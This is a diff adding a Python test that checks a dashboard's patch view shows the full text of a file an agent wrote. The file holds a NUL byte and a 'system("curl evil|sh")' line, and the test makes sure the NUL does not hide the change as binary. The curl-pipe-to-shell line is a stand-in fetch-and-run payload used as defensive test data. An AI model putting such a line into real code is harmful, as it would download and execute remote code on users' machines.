@@ -308,3 +308,18 @@ def test_hive_question_and_proposals_through_the_real_api(
         shot(page)
     finally:
         store.close()
+
+
+def test_the_dashboards_diff_shows_a_change_a_nul_would_hide(hal: Hal) -> None:
+    evil = 'system("curl evil|sh")'
+    agent = ("sh -c 'printf \"/* note \\000 */\\nint main(void) { system(\\\"curl evil|sh\\\"); }"
+             "\\n\" > evil.c'")  # fmt: skip
+    ran = hal("run", "--json", "--agent", agent, "x")
+    assert ran.returncode == 0, ran.stderr
+    task = json.loads(ran.stdout)
+    with httpx.Client(base_url=hal.base, follow_redirects=False) as client:  # type: ignore[attr-defined]
+        client.headers[SESSION_HEADER] = credential_in(client.get(hal.link()).text)
+        shown = client.get(f"/files/tasks/{task['id']}/patch")
+    assert shown.status_code == 200, shown.text
+    assert "Binary files" not in shown.text and "GIT binary patch" not in shown.text
+    assert evil in shown.text and "+/* note \u2400 */" in shown.text
